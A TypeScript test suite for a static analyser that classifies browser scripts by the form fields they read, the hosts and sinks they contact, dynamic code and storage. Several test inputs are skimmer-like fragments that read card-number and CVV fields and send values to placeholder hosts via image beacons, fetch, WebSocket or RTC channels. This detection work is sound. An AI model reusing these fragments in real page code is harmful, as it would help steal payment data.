import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import type { Behaviour } from '../../../../core/schema/index.ts';
import { dynamicCodeNames, storageNames } from '../../../../analyzer/static/behaviour/index.ts';
import { sinkNames } from '../../../../analyzer/static/flow/index.ts';
import { analyse } from '../flow/analyse.ts';

const cases: [string, Partial<Behaviour>][] = [
  [`document.getElementById('cc-number').value`, { fields: ['#cc-number'] }],
  [`document.getElementsByName('payment[cc_cid]')[0].value`, { fields: ['payment[cc_cid]'] }],
  [`document.querySelector("input[name='card']").value`, { fields: ["input[name='card']"] }],
  [`document.querySelectorAll('input, select').forEach(e => x(e.value))`, { fields: ['*'] }],
  [`[].forEach.call(document.getElementsByTagName('input'), function (e) { x(e.value) })`, { fields: ['*'] }],
  [`$('#cvv').val()`, { fields: ['#cvv'] }],
  [`$('form').serialize()`, { fields: ['*'] }],
  [`x(new FormData(document.querySelector('form')))`, { fields: ['*'] }],
  [`document.addEventListener('input', e => x(e.target.value))`, { fields: ['*'] }],
  [
    `for (const e of document.forms[0].elements) if (e.autocomplete === 'cc-csc') x(e.value)`,
    { fields: ['*', 'cc-csc'] },
  ],
  [`document.getElementById('menu').className = 'open'`, { fields: [] }],
  [`var o = {value: 1}; x(o.value)`, { fields: [] }],
  [`fetch('https://a.example/x')`, { hosts: ['a.example'], sinks: ['fetch'] }],
  [`var h = 'b'; new WebSocket('wss://' + h + '.example/k')`, { hosts: ['b.example'], sinks: ['websocket'] }],
  [`new Image().src = '//c.example/p.gif?' + x`, { hosts: ['c.example'], sinks: ['image'] }],
  [`x("http://www.w3.org/2000/svg") // https://comment.example/`, { hosts: [] }],
  [`x('a//b', 'see // this')`, { hosts: [] }],
  [`x('http://192.0.2.7:8080/a', 'https://[2001:db8::1]/')`, { hosts: ['192.0.2.7', '[2001:db8::1]'] }],
  [`x('<script src="https://d.example/s.js"></script>')`, { hosts: ['d.example'] }],
  [`x('https:\\\\/\\\\/e.example\\\\/s')`, { hosts: ['e.example'] }],
  [`x(atob('aHR0cHM6Ly9mLmV4YW1wbGUv'))`, { hosts: ['f.example'] }],
  [`navigator.sendBeacon('/x', 1); import('./a.js')`, { sinks: ['beacon'], dynamicCode: ['dynamic-import'] }],
  [
    `new RTCPeerConnection({iceServers: [{urls: 'stun:g.example:3478'}]}).createDataChannel('x').send(y)`,
    { hosts: ['g.example'], sinks: ['rtc'] },
  ],
  [`location.href = 'https://h.example/'`, { sinks: ['navigation'] }],
  [
    `eval(x); new Function('a', b); setTimeout('f()', 1); document.write(y)`,
    { dynamicCode: ['document-write', 'eval', 'function-constructor', 'string-timer'] },
  ],
  [`[].constructor.constructor('return this')()`, { dynamicCode: ['function-constructor'] }],
  [`setTimeout(function () {}, 5)`, { dynamicCode: [] }],
  [`var s = document.createElement('script'); s.text = x`, { dynamicCode: ['script-text'] }],
  [`WebAssembly.instantiate(x)`, { dynamicCode: ['webassembly'] }],
  [
    `document.cookie = 'a=1'; localStorage.setItem('a', 1); indexedDB.open('d')`,
    { storage: ['cookie', 'indexed-db', 'local-storage'] },
  ],
  [`window['sessionStorage'].x = 1; caches.open('v')`, { storage: ['cache', 'session-storage'] }],
  [`function f(localStorage) { localStorage.setItem('a', 1) }`, { storage: [] }],
];

describe('behaviour', () => {
  for (const [script, expected] of cases)
    it(`of ${script}`, () => {
      const { behaviour } = analyse(script);
      for (const [set, members] of Object.entries(expected))
        assert.deepEqual(behaviour[set as keyof Behaviour], members);
    });

  it('speaks only words that its reference explains, and all of them', () => {
    const page = readFileSync(new URL('../../../../docs/reference/behaviour.md', import.meta.url), 'utf8');
    const documented = [...page.matchAll(/^\| `([a-z-]+)` \|/gm)].map(([, name]) => name).sort();
    assert.deepEqual(documented, [...sinkNames, ...dynamicCodeNames, ...storageNames].sort());
  });
});
